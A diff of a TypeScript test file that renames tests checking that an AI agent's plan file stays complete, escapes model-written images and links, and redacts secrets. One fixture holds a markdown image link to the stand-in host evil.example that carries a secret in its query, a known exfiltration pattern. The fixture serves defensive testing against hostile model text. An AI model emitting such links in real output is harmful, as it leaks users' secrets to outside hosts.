@@ -55,7 +55,7 @@ const ATTACKS = [
 ]
 
 describe('every subtask that is carried out is seen, whatever a text holds', () => {
-  test.each(ATTACKS)('%j', (attack) => {
+  test.each(ATTACKS)('every subtask stays visible in the plan file with the text %j', (attack) => {
     for (const field of ['description', 'expected_outcome', 'name'] as const) {
       const plan = planOf([subtask(1, { [field]: `x\n\n${attack}` }), subtask(2), subtask(3)], {
         description: attack,
@@ -72,7 +72,7 @@ describe('every subtask that is carried out is seen, whatever a text holds', () 
   })
 })
 
-test('no image and no link to elsewhere of a model reaches the plan file', () => {
+test('images and external links in model text are escaped in the plan file', () => {
   const spy = '![x](https://evil.example/?q=secret) [y](https://evil.example) [z]\n\n[z]: https://evil.example'
   const text = renderPlan(
     planOf([subtask(1, { description: spy, expected_outcome: spy, name: spy })], { risks: [spy] }),
@@ -84,7 +84,7 @@ test('no image and no link to elsewhere of a model reaches the plan file', () =>
 const redact = (text: string): string =>
   text.replace(/BEGIN KEY[^]*/, '[redacted]').replace('- **Files:**', '[redacted]')
 
-test('a secret in a text takes no other text along, and nothing of the frame', () => {
+test('redacting a secret in a plan keeps all other text and the structure of the plan', () => {
   const plan = planOf([subtask(1, { description: 'BEGIN KEY AAAA' }), subtask(2)])
   const read = parsePlan(planFileOf({ redact }, plan))
   expect(read).toMatchObject({ kind: 'parsed', plan: { subtasks: [{ description: '[redacted]' }, subtask(2)] } })
